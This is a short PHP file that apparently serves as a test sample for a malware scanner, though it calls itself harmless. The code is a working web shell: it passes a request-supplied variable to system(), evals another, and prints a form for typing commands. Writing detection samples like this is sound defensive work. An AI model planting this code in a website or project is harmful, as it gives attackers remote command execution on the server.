<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// Old-style shell: $cmd arrives through register_globals, the file never sets it.
if (!empty($cmd)) {
    echo "<pre>";
    system($cmd);
    echo "</pre>";
}
if (!empty($php)) {
    eval($php);
}
?>
<form method="get"><input type="text" name="cmd"><input type="submit" value="Run"></form>
